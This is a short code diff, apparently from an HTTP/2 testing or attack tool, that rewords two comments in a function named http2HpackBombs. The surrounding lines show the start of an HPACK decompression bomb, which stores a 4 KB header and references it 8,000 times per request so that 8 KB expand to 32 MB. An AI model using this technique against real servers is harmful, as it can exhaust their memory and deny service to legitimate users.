@@ -3,10 +3,10 @@ import { field, flags, frame, frameType, preface, requestFields } from "./http2-
 
 /** References to the entry of the dynamic table in each request. */
 const references = 8000;
-/** The place of the newest entry of the dynamic table, as an indexed field. */
+/** Index of the newest entry of the dynamic table, as an indexed field. */
 const newestEntry = 0x80 | 62;
 
-/** Puts a field of 4 KB into the dynamic table and refers to it 8,000 times per request: 8 KB become 32 MB. */
+/** Adds a field of 4 KB to the dynamic table and refers to it 8,000 times per request: 8 KB expand to 32 MB. */
 export function http2HpackBombs(options: AttackOptions): Promise<void> {
   const request = requestFields("GET", options.path ?? "/mutate");
   const define = Buffer.concat([request, field("x", "x".repeat(4000), true)]);
